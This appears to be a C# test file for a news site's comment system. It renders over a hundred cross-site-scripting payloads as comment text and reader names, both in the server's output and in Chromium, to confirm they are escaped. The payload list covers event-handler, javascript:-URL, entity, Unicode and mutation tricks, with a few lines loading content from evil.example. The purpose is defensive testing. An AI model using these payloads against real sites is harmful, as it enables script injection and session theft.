using System.Net;
using System.Text.Json;
using System.Text.RegularExpressions;
using AngleSharp.Dom;
using Herald.Accounts;
using Herald.Articles;
using Herald.Comments;
using Herald.Moderation;
using Herald.Tests.Browser;
using Herald.Tests.Support;
using Microsoft.AspNetCore.Identity;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;

namespace Herald.Tests.Comments;

// Output encoding of everything a reader controls: over a hundred script-injection attempts
// as comment bodies and as display names, rendered by the server and by the live stream in
// Chromium, where anything that ran would be caught.
public sealed class InjectionTests(Chromium chromium) : IClassFixture<Chromium>
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    // Runs before any page script: anything injected that executes leaves a trace in __hits.
    private const string Trap = """
        (() => {
          const hits = [];
          Object.defineProperty(window, "__hits", { value: hits });
          window.pwn = (...args) => { hits.push("pwn(" + args.join(",") + ") in " + location.pathname); };
          Object.defineProperty(window, "__pwned", { set(v) { hits.push("__pwned=" + v + " in " + location.pathname); }, get() { return undefined; } });
        })();
        """;

    // What the page shows of the user content, and anything that should not be there. Markup
    // and attributes that only injected content could have brought are listed in "bad".
    private const string Inspect = """
        ([item, author, body]) => {
          const bad = [];
          for (const el of document.querySelectorAll("*")) {
            for (const a of el.attributes) {
              if (/^on/i.test(a.name)) bad.push(`${el.tagName} ${a.name}=${a.value}`);
            }
          }
          for (const s of document.scripts) {
            if (s.type !== "application/ld+json" && !(s.src && new URL(s.src).origin === location.origin)) bad.push("script " + s.outerHTML.slice(0, 100));
          }
          for (const a of document.querySelectorAll("a[href], [formaction], form[action], iframe, object, embed, base")) {
            const url = a.href || a.formAction || a.action || a.src || a.data || "";
            if (!/^https?:/i.test(url)) bad.push(`${a.tagName} to ${url}`);
          }
          for (const e of document.querySelectorAll(".comment-author *, .queue-meta a[href^='/desk/moderation/readers/'] *, .comment-quoted strong *")) bad.push("in a name: " + e.outerHTML.slice(0, 100));
          for (const e of document.querySelectorAll(".comment-body *, .comment-quoted > :not(p), .comment-quoted p *:not(strong, br, a)")) {
            if (!["P", "BR", "A", "STRONG"].includes(e.tagName) || (e.tagName === "A" && [...e.attributes].some(a => a.name !== "href" && a.name !== "rel"))) bad.push("in a comment: " + e.outerHTML.slice(0, 100));
          }
          const items = [...document.querySelectorAll(item)].map(e => ({
            id: e.id,
            author: e.querySelector(author)?.textContent ?? null,
            body: e.querySelector(body)?.textContent ?? null,
          }));
          return { hits: [...window.__hits], bad, items };
        }
        """;

    [Fact]
    public void There_are_more_than_a_hundred_distinct_attempts() =>
        Assert.True(InjectionPayloads.All.Distinct().Count() >= 100, $"only {InjectionPayloads.All.Distinct().Count()} distinct attempts");

    [Fact]
    public void Comment_text_becomes_only_paragraphs_line_breaks_and_plain_http_links()
    {
        var failures = new List<string>();
        foreach (var text in InjectionPayloads.All)
        {
            var html = CommentText.ToHtml(text);
            var body = HtmlPage.Parse($"<!DOCTYPE html><html><head><title>t</title></head><body>{html}</body></html>").Body!;
            foreach (var element in body.QuerySelectorAll("*"))
            {
                var allowed = element.LocalName switch
                {
                    "p" or "br" => element.Attributes.Length == 0,
                    "a" => element.Attributes.Select(a => a.Name).Order(StringComparer.Ordinal).SequenceEqual(["href", "rel"]) &&
                           Regex.IsMatch(element.GetAttribute("href")!, "^https?://", RegexOptions.None, TimeSpan.FromSeconds(1)) &&
                           element.GetAttribute("rel") == "nofollow ugc noopener",
                    _ => false,
                };
                if (!allowed)
                {
                    failures.Add($"{text}\n    gave {element.OuterHtml}");
                }
            }
            if (body.TextContent != Shown(text))
            {
                failures.Add($"{text}\n    shows as {body.TextContent}");
            }
        }
        Assert.True(failures.Count == 0, string.Join('\n', failures));
    }

    [Fact]
    public void A_rendered_comment_shows_name_and_text_as_text()
    {
        var failures = new List<string>();
        var id = 0L;
        foreach (var text in InjectionPayloads.All)
        {
            var comment = new CommentView { Id = ++id, UserId = 9, AuthorName = text, AuthorKind = "reader", Body = text, State = "approved", CreatedAt = 1_772_440_000_000 };
            var viewer = new Viewer(7, "__RequestVerificationToken", "token", 1_772_440_000_000, 15);
            var html = CommentHtml.Item(comment, 1, "en", TimeZoneInfo.Utc, viewer);
            var item = HtmlPage.Parse($"<!DOCTYPE html><html><head><title>t</title></head><body><ol>{html}</ol></body></html>").QuerySelector("li")!;
            var author = item.QuerySelector(".comment-author")!;
            if (author.Children.Length > 0 || author.TextContent != text)
            {
                failures.Add($"name {text}\n    gave {author.OuterHtml}");
            }
            if (item.QuerySelector(".comment-body")!.TextContent != Shown(text))
            {
                failures.Add($"text {text}\n    gave {item.QuerySelector(".comment-body")!.OuterHtml}");
            }
            var unexpected = item.QuerySelectorAll("*").Where(e => e.Attributes.Any(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase))
                || e.LocalName is not ("li" or "article" or "header" or "span" or "time" or "div" or "p" or "br" or "a" or "form" or "input" or "button")).ToList();
            failures.AddRange(unexpected.Select(e => $"{text}\n    gave {e.OuterHtml}"));
        }
        Assert.True(failures.Count == 0, string.Join('\n', failures));
    }

    [Fact]
    public async Task No_injected_script_runs_on_the_article_in_the_live_stream_or_at_the_moderation_desk()
    {
        var payloads = InjectionPayloads.All;
        await using var site = LiveSite.Start(settings:
        [
            ("Herald:Comments:MinSecondsToSubmit", "0"), ("Herald:Comments:PerAccountPerMinute", "0"), ("Herald:Comments:PerAddressPerMinute", "0"),
            ("Herald:Comments:PageSize", "500"),
        ]);
        var story = await site.PublishAsync(Samples.Article("injection-target", title: "Injection target") with { CommentPolicy = new CommentPolicy("open", null) });
        var moderatorId = (await TestAccounts.CreateAsync(site.Services, "mo@herald.invalid", "Mo Derator", "moderator")).Id;
        // Reader i is named after attempt i and writes attempt i. Only the last one signs in:
        // the others need no password (hashing a hundred would take seconds).
        var authors = new List<User>();
        await using (var scope = site.Services.CreateAsyncScope())
        {
            var users = scope.ServiceProvider.GetRequiredService<UserManager<User>>();
            for (var i = 0; i < payloads.Count - 1; i++)
            {
                var author = new User { Email = $"reader{i}@example.org", DisplayName = payloads[i], Kind = UserKinds.Reader, EmailConfirmed = true };
                var created = await users.CreateAsync(author);
                Assert.True(created.Succeeded, string.Join("; ", created.Errors.Select(e => e.Description)));
                authors.Add(author);
            }
        }
        authors.Add(await TestAccounts.CreateAsync(site.Services, $"reader{payloads.Count - 1}@example.org", payloads[^1]));
        var byComment = new Dictionary<long, int>();
        for (var i = 0; i < payloads.Count; i++)
        {
            var outcome = await site.Get<CommentPosting>().PostAsync(new Commenter(authors[i].Id, payloads[i], IsStaff: false),
                new CommentDraft(story.ArticleId, null, payloads[i], site.Get<FormTokens>().Issue(), null, "127.0.0.1", false), Ct);
            var accepted = Assert.IsType<PostOutcome.Accepted>(outcome);
            Assert.Equal("pending", accepted.State);
            byComment[accepted.CommentId] = i;
        }
        var failures = new List<string>();

        // The moderators see every attempt first: the queue, and a reader's history.
        var (moderatorContext, desk, deskDialogs) = await OpenAsync(site);
        await using (moderatorContext)
        {
            // The traps catch what they are meant to: injected markup that runs, and dialogs.
            await desk.GotoAsync("/");
            await desk.EvaluateAsync("() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=pwn(0)>'); setTimeout(() => alert('trap'), 0); }");
            var control = await InspectAsync(desk, "nothing", "x", "x");
            Assert.Contains("pwn(0) in /", control.Hits);
            lock (deskDialogs)
            {
                Assert.Equal(["alert: trap"], deskDialogs);
                deskDialogs.Clear();
            }

            await SignInAsync(desk, "mo@herald.invalid");
            await desk.GotoAsync("/desk/moderation");
            Check(await InspectAsync(desk, ".queue-item", ".queue-meta a[href^='/desk/moderation/readers/']", ".comment-body"), "queue-", byComment, payloads, deskDialogs, "/desk/moderation", failures, expected: 100);
            foreach (var i in new[] { 0, 80, payloads.Count - 1 })
            {
                await desk.GotoAsync($"/desk/moderation/readers/{authors[i].Id}");
                var seen = await InspectAsync(desk, "h1", "h1", "h1");
                Check(seen with { Items = [] }, "", byComment, payloads, deskDialogs, $"reader page of attempt {i}", failures);
                if (await desk.Locator("h1").TextContentAsync() != $"Reader: {payloads[i]}")
                {
                    failures.Add($"reader page of attempt {i} is headed {await desk.Locator("h1").TextContentAsync()}");
                }
            }
            // A reader has the story open while the moderator approves everything at once.
            var (readerContext, page, dialogs) = await OpenAsync(site);
            await using (readerContext)
            {
                await page.RunAndWaitForResponseAsync(() => page.GotoAsync(story.Path), r => r.Url.EndsWith("/live", StringComparison.Ordinal));
                await site.Get<ModerationActions>().DecideAsync([.. byComment.Keys], Decisions.Approve, null, moderatorId, Ct);
                await Assertions.Expect(page.Locator("[data-comment-count]")).ToHaveTextAsync(payloads.Count.ToString(System.Globalization.CultureInfo.InvariantCulture));
                var live = await InspectAsync(page, ".comment-list > .comment", ".comment-author", ".comment-body");
                Assert.NotEmpty(live.Items);
                Check(live, "comment-", byComment, payloads, dialogs, "the live stream", failures);
                if (await page.Locator(".live-status").TextContentAsync() is not { } status || !payloads.Any(p => status == $"New comment from {p}."))
                {
                    failures.Add($"the live status reads {await page.Locator(".live-status").TextContentAsync()}");
                }

                // The page as the server renders it, for everyone.
                await page.ReloadAsync();
                Check(await InspectAsync(page, ".comment-list > .comment", ".comment-author", ".comment-body"), "comment-", byComment, payloads, dialogs, "the article", failures, expected: payloads.Count);
            }
            // Replying to and reporting a comment quote it with its author's name.
            foreach (var (commentId, i) in byComment.Where(c => c.Value % 40 == 0))
            {
                await desk.GotoAsync($"/comments/{story.ArticleId}?reply={commentId}");
                var quoted = await InspectAsync(desk, ".comment-quoted", "strong", "p:not(:first-child)");
                Check(quoted with { Items = [] }, "", byComment, payloads, deskDialogs, $"the reply page of attempt {i}", failures);
                if (await desk.Locator(".comment-quoted strong").TextContentAsync() != payloads[i])
                {
                    failures.Add($"the reply page of attempt {i} names {await desk.Locator(".comment-quoted strong").TextContentAsync()}");
                }
                await desk.GotoAsync($"/comments/{story.ArticleId}?report={commentId}");
                Check((await InspectAsync(desk, "h1", "h1", "h1")) with { Items = [] }, "", byComment, payloads, deskDialogs, $"the report page of attempt {i}", failures);
            }
        }

        // Each author's own view carries their name in the header and the comment's forms.
        var (ownContext, own, ownDialogs) = await OpenAsync(site);
        await using (ownContext)
        {
            var i = payloads.Count - 1;
            await SignInAsync(own, $"reader{i}@example.org");
            await own.GotoAsync(story.Path);
            Check(await InspectAsync(own, ".comment-list > .comment", ".comment-author", ".comment-body"), "comment-", byComment, payloads, ownDialogs, "the article as its author sees it", failures, expected: payloads.Count);
            if (await own.Locator(".header-account a").TextContentAsync() != payloads[i])
            {
                failures.Add($"the header names the reader {await own.Locator(".header-account a").TextContentAsync()}");
            }
        }
        Assert.True(failures.Count == 0, $"{failures.Count} problems:\n" + string.Join('\n', failures));
    }

    [Theory]
    [MemberData(nameof(TestDatabases.All), MemberType = typeof(TestDatabases))]
    public async Task Control_characters_in_a_comment_or_a_name_are_refused_or_kept_never_a_server_error(string database)
    {
        await using var site = await CommentSite.StartAsync(database, null, ("Herald:Comments:TrustAfterApproved", "0"));
        var (_, path) = await CommentSite.ArticleAsync(site, mode: "open");

        // ASP.NET Core refuses a form with a NUL in it (antiforgery cannot read the form): a 400 is fine.
        var (registered, _) = await PostSafelyAsync(() => Forms.SubmitAsync(site.Client(), "/account/register", new Dictionary<string, string>
        {
            ["Email"] = "nul@example.org", ["DisplayName"] = "Nul\0Name", ["Password"] = TestAccounts.Password,
        }));
        Assert.True(registered.StatusCode is HttpStatusCode.Found or HttpStatusCode.BadRequest, $"registration with a NUL in the name answered {(int)registered.StatusCode}");

        var reader = await CommentSite.SignedInAsync(site, "ctl@example.org", "Control");
        foreach (var text in new[] { "A NUL \0 inside", "Escape \u001b[31m red", "Bell \a and backspace \b", "Form feed \f and vertical tab \v" })
        {
            var (posted, page) = await PostSafelyAsync(() => CommentSite.CommentAsync(reader, path, text));
            Assert.True(Forms.IsRedirect(posted) || posted.StatusCode == HttpStatusCode.BadRequest,
                $"posting {JsonSerializer.Serialize(text)} answered {(int)posted.StatusCode} {page.QuerySelector("h1")?.TextContent}");
        }
        var (shown, _) = await HtmlPage.GetAsync(site.Client(), path);
        Assert.Equal(HttpStatusCode.OK, shown.StatusCode);
    }

    [Theory]
    [MemberData(nameof(TestDatabases.All), MemberType = typeof(TestDatabases))]
    public async Task A_posted_field_named_code_cannot_choose_the_status_of_the_error_page(string database)
    {
        await using var site = await CommentSite.StartAsync(database);
        var (articleId, _) = await CommentSite.ArticleAsync(site, mode: "open");
        var reader = await CommentSite.SignedInAsync(site, "code@example.org", "Code");
        // No antiforgery token: refused with 400, and the error page is shown for the POST.
        var (refused, page) = await PostSafelyAsync(() => Forms.PostAsync(reader, $"/comments/{articleId}", new Dictionary<string, string>
        {
            ["Text"] = "Hello there", ["code"] = "299",
        }));
        Assert.True(refused.StatusCode == HttpStatusCode.BadRequest,
            $"a form without its antiforgery token but with code=299 answered {(int)refused.StatusCode}: {page.QuerySelector("h1")?.TextContent}");
    }

    [Theory]
    [MemberData(nameof(TestDatabases.All), MemberType = typeof(TestDatabases))]
    public async Task A_comment_too_large_for_the_form_reader_is_refused_with_a_proper_status(string database)
    {
        await using var site = await CommentSite.StartAsync(database);
        var (_, path) = await CommentSite.ArticleAsync(site, mode: "open");
        var reader = await CommentSite.SignedInAsync(site, "big@example.org", "Big");
        // Past ASP.NET Core's 4 MiB limit for one form value: the form cannot even be read.
        var (posted, _) = await PostSafelyAsync(() => CommentSite.CommentAsync(reader, path, new string('x', 4_500_000)));
        Assert.True(posted.StatusCode is HttpStatusCode.BadRequest or HttpStatusCode.RequestEntityTooLarge, $"a 4.5 MB comment answered {(int)posted.StatusCode}");
    }

    // The status code pages re-execute the error page for a refused POST, which binds its
    // status from the posted form; a missing or odd value there makes the test server throw.
    private static async Task<(HttpResponseMessage Response, IDocument Page)> PostSafelyAsync(Func<Task<(HttpResponseMessage, IDocument)>> post)
    {
        try
        {
            return await post();
        }
        catch (ArgumentOutOfRangeException e) when (e.StackTrace?.Contains("ErrorPageModel", StringComparison.Ordinal) == true)
        {
            Assert.Fail($"The error page set an invalid HTTP status (src/Herald/Reading/ErrorPage.cshtml.cs binds `code` from the posted form): {e.Message}");
            throw;
        }
    }

    // What a comment's text looks like on the page: paragraphs and lines run together.
    private static string Shown(string text) =>
        string.Concat(Regex.Split(CommentText.Normalize(text), @"\n\s*\n", RegexOptions.None, TimeSpan.FromSeconds(1)).Select(p => p.Trim())).Replace("\n", "", StringComparison.Ordinal);

    private sealed record Seen(string[] Hits, string[] Bad, Item[] Items);

    private sealed record Item(string Id, string? Author, string? Body);

    private static async Task<Seen> InspectAsync(IPage page, string item, string author, string body)
    {
        // Injected handlers (onerror, onfocus, ontoggle) would fire just after load; an image's
        // error handler only once its request failed, which on a busy machine can take longer
        // than the pause below, so the images are waited for first.
        await page.WaitForLoadStateAsync(LoadState.Load);
        await page.WaitForFunctionAsync("() => [...document.images].every(i => i.complete)");
        await page.WaitForTimeoutAsync(150);
        var result = await page.EvaluateAsync<JsonElement>(Inspect, new[] { item, author, body });
        return new Seen(
            [.. result.GetProperty("hits").EnumerateArray().Select(e => e.GetString()!)],
            [.. result.GetProperty("bad").EnumerateArray().Select(e => e.GetString()!)],
            [.. result.GetProperty("items").EnumerateArray().Select(e => new Item(e.GetProperty("id").GetString() ?? "",
                e.GetProperty("author").GetString(), e.GetProperty("body").GetString()))]);
    }

    private static void Check(Seen seen, string idPrefix, Dictionary<long, int> byComment, IReadOnlyList<string> payloads, List<string> dialogs, string where,
        List<string> failures, int? expected = null)
    {
        failures.AddRange(seen.Hits.Select(h => $"{where}: script ran: {h}"));
        failures.AddRange(seen.Bad.Select(b => $"{where}: {b}"));
        lock (dialogs)
        {
            failures.AddRange(dialogs.Select(d => $"{where}: a dialog opened: {d}"));
            dialogs.Clear();
        }
        if (expected is { } count && seen.Items.Length != count)
        {
            failures.Add($"{where}: {seen.Items.Length} comments shown, expected {count}");
        }
        foreach (var item in seen.Items)
        {
            if (!long.TryParse(item.Id.AsSpan(idPrefix.Length), out var id) || !byComment.TryGetValue(id, out var i))
            {
                failures.Add($"{where}: unknown item {item.Id}");
                continue;
            }
            if (item.Author != payloads[i])
            {
                failures.Add($"{where}: the name of attempt {i} shows as {item.Author}");
            }
            if (item.Body != Shown(payloads[i]))
            {
                failures.Add($"{where}: the text of attempt {i} shows as {item.Body}");
            }
        }
    }

    private async Task<(IBrowserContext Context, IPage Page, List<string> Dialogs)> OpenAsync(LiveSite site)
    {
        var origin = site.BaseAddress.GetLeftPart(UriPartial.Authority);
        // The site's Content-Security-Policy would stop inline scripts anyway; bypassing it
        // tests the encoding itself, the first line of defence.
        var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { BaseURL = origin, BypassCSP = true, Locale = "en-GB" });
        context.SetDefaultTimeout(10_000);
        await context.RouteAsync("**/*", route =>
            route.Request.Url.StartsWith(origin + "/", StringComparison.Ordinal) ? route.ContinueAsync() : route.AbortAsync("blockedbyclient"));
        await context.AddInitScriptAsync(Trap);
        var page = await context.NewPageAsync();
        var dialogs = new List<string>();
        page.Dialog += (_, dialog) =>
        {
            lock (dialogs)
            {
                dialogs.Add($"{dialog.Type}: {dialog.Message}");
            }
            _ = dialog.DismissAsync();
        };
        return (context, page, dialogs);
    }

    private static async Task SignInAsync(IPage page, string email)
    {
        await page.GotoAsync("/account/login");
        await page.GetByLabel("E-mail address").FillAsync(email);
        await page.GetByLabel("Password").FillAsync(TestAccounts.Password);
        await page.GetByRole(AriaRole.Button, new() { Name = "Sign in" }).ClickAsync();
        await page.WaitForURLAsync(url => !url.Contains("/account/login", StringComparison.Ordinal));
    }
}

// Script-injection attempts, used as comment bodies and as readers' display names. Each one
// that ran would call pwn(n), alert(n) or set window.__pwned (the browser test traps all three).
public static class InjectionPayloads
{
    // One attempt per line.
    private const string Lines = """
        <script>pwn(1)</script>
        <SCRIPT>pwn(2)</SCRIPT>
        <script src=/x.js></script><script>pwn(3)</script>
        <scr<script>ipt>pwn(4)</scr</script>ipt>
        <script>alert(5)</script>
        <script type="module">pwn(6)</script>
        <script>window.__pwned=7</script>
        <img src=x onerror=pwn(8)>
        <img src="x" onerror="pwn(9)">
        <IMG SRC=x OnErRoR=pwn(10)>
        <img src=x onerror=pwn&#40;11&#41;>
        <img/src=x/onerror=pwn(12)>
        <img src=x:x onerror=window.__pwned=13>
        <img src="x` `<script>pwn(14)</script>"` `>
        <image src=x onerror=pwn(15)>
        <svg onload=pwn(16)>
        <svg><script>pwn(17)</script></svg>
        <svg><animate onbegin=pwn(18) attributeName=x dur=1s>
        <svg><a xlink:href="javascript:pwn(19)"><text x="20" y="20">click</text></a></svg>
        <svg><set attributeName=onmouseover to=pwn(20)>
        <svg><foreignObject><iframe srcdoc="<script>parent.pwn(21)</script>"></iframe></foreignObject></svg>
        <svg><style><img src=x onerror=pwn(22)></style></svg>
        <math><mtext><table><mglyph><style><img src=x onerror=pwn(23)>
        <math href="javascript:pwn(24)">CLICKME</math>
        <math><maction actiontype="statusline" xlink:href="javascript:pwn(25)">x</maction></math>
        <body onload=pwn(26)>
        <body onpageshow=pwn(27)>
        <iframe src="javascript:parent.pwn(28)"></iframe>
        <iframe srcdoc="&lt;script&gt;parent.pwn(29)&lt;/script&gt;"></iframe>
        <object data="javascript:pwn(30)"></object>
        <embed src="javascript:pwn(31)">
        <details open ontoggle=pwn(32)>
        <video><source onerror=pwn(33)></video>
        <audio src=x onerror=pwn(34)>
        <input autofocus onfocus=pwn(35)>
        <select autofocus onfocus=pwn(36)>
        <textarea autofocus onfocus=pwn(37)>
        <keygen autofocus onfocus=pwn(38)>
        <marquee onstart=pwn(39)>x</marquee>
        <div style="width:expression(pwn(40))">old IE</div>
        <div style="background:url(javascript:pwn(41))">css</div>
        <style>@import "javascript:pwn(42)";</style>
        <style>*{x:expression(pwn(43))}</style>
        <link rel=stylesheet href="javascript:pwn(44)">
        <meta http-equiv="refresh" content="0;url=javascript:pwn(45)">
        <base href="javascript:pwn(46)//">
        <form action="javascript:pwn(47)"><button>go</button></form>
        <button formaction="javascript:pwn(48)">x</button>
        <a href="javascript:pwn(49)">click me</a>
        <a href="JaVaScRiPt:pwn(50)">mixed case</a>
        <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwn(51)">entities</a>
        <a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;pwn(52)">hex entities</a>
        <a href="jav&#x09;ascript:pwn(53)">tab inside</a>
        <a href=" javascript:pwn(54)">leading space</a>
        <a href="data:text/html;base64,PHNjcmlwdD5wd24oNTUpPC9zY3JpcHQ+">data url</a>
        <a href="vbscript:pwn(56)">vbscript</a>
        javascript:pwn(57)
        javascript://%0apwn(58)
        https://example.org/"onmouseover="pwn(59)
        https://example.org/'onmouseover='pwn(60)
        https://example.org/<script>pwn(61)</script>
        https://example.org/?q="><script>pwn(62)</script>
        http://example.org/#"><img src=x onerror=pwn(63)>
        https://exa<mple.org/ onerror=pwn(64)
        http://x/`onmouseover=pwn(65)`
        https://example.org/a)(pwn(66))
        &lt;script&gt;pwn(67)&lt;/script&gt;
        &#60;script&#62;pwn(68)&#60;/script&#62;
        &#x3C;img src=x onerror=pwn(69)&#x3E;
        %3Cscript%3Epwn(70)%3C/script%3E
        \u003cscript\u003epwn(71)\u003c/script\u003e
        \x3cscript\x3epwn(72)\x3c/script\x3e
        "><script>pwn(73)</script>
        '><script>pwn(74)</script>
        " onmouseover="pwn(75)" x="
        ' onfocus='pwn(76)' autofocus x='
        " autofocus onfocus=pwn(77) x="
        `><img src=x onerror=pwn(78)>
        "/><svg onload=pwn(79)>
        </textarea><script>pwn(80)</script>
        </title><script>pwn(81)</script>
        </style><script>pwn(82)</script>
        </script><script>pwn(83)</script>
        </noscript><img src=x onerror=pwn(84)>
        </p></div></li></ol><script>pwn(85)</script>
        <!--<script>pwn(86)</script>-->
        --><script>pwn(87)</script>
        <![CDATA[<script>pwn(88)</script>]]>
        <noscript><p title="</noscript><img src=x onerror=pwn(89)>">
        <template><script>pwn(90)</script></template><img src=x onerror=pwn(90)>
        ${pwn(91)}
        `${pwn(92)}`
        {{constructor.constructor('pwn(93)')()}}
        {"html":"<img src=x onerror=pwn(94)>"}
        ","html":"<img src=x onerror=pwn(95)>","x":"
        \"};pwn(96);//
        '};pwn(97);//
        data: <script>pwn(98)</script>
        event: comment
        <xss onafterscriptexecute=pwn(100)><script>1</script>
        <a id=x tabindex=1 onfocusin=pwn(101)></a>
        <div onpointerover=pwn(102)>hover me</div>
        <p contenteditable onbeforeinput=pwn(103)>type</p>
        <isindex type=image src=1 onerror=pwn(104)>
        <table background="javascript:pwn(105)">
        <object type="text/x-scriptlet" data="https://evil.example/pwn106.sct"></object>
        <img srcset=",,,,,x" onerror=pwn(107)>
        <iframe src=https://evil.example/pwn108></iframe>
        <portal src=https://evil.example/ onload=pwn(109)></portal>
        <a href="https://example.org" rel="opener" target="_blank" onclick="pwn(110)">looks fine</a>
        <img src=x onerror="&#x70;&#x77;&#x6E;&#x28;&#x31;&#x31;&#x31;&#x29;">
        <svg><script href="data:,pwn(112)" /></svg>
        <svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='pwn(113)' /&gt;&lt;/svg&gt;#x" /></svg>
        """;

    // Attempts with characters a raw string cannot hold: Unicode tricks and line breaks.
    private static readonly string[] Special =
    [
        "\uFF1Cscript\uFF1Epwn(114)\uFF1C/script\uFF1E",
        "<scr\u200Bipt>pwn(115)</scr\u200Bipt>",
        "\u202E>tpircs/<)611(nwp>tpircs<",
        "<img src=x on\u00ADerror=pwn(117)>",
        "<script>pwn(118)</script>\u2028<script>pwn(118)</script>",
        "\u2029\"}; pwn(119); //",
        "<\u0131mg src=x onerror=pwn(120)>",
        "<img src=x onerror=pwn(121)\t>",
        "<scri\npt>pwn(122)</scri\npt>",
        "<img\nsrc=x\nonerror=pwn(123)>",
        "First paragraph\n\n<script>pwn(124)</script>\n\nthird",
        "line one<br>line two<br onclick=pwn(125)>",
        "https://example.org/\u0022onmouseover=\u0022pwn(126)",
        "<a href=\"java\u0000script:pwn(127)\">nul</a>".Replace("\u0000", "&#0;", StringComparison.Ordinal),
        "\uFE64script\uFE65pwn(128)\uFE64/script\uFE65",
    ];

    public static IReadOnlyList<string> All { get; } =
        [.. Lines.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries), .. Special];

    public static TheoryData<int> Indexes
    {
        get
        {
            var data = new TheoryData<int>();
            for (var i = 0; i < All.Count; i++)
            {
                data.Add(i);
            }
            return data;
        }
    }
}
